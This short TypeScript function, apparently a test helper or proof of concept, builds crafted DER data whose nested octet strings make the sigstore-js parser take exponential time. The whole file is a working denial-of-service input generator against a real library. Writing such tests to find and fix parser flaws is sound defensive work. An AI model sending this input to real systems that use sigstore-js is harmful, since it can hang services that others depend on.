/**
 * Returns DER that takes sigstore-js 2^count steps to read: octet strings whose content looks like the start of an
 * element that covers the rest. 100 bytes for a count of 25.
 */
export function endlessDer(count: number): Buffer {
  let rest: Buffer = Buffer.from([0x05, 0]);
  for (let at = 0; at < count; at++) {
    rest = Buffer.concat([Buffer.from([0x04, 2, 0x30, rest.length]), rest]);
  }
  return Buffer.concat([Buffer.from([0x30, rest.length]), rest]);
}
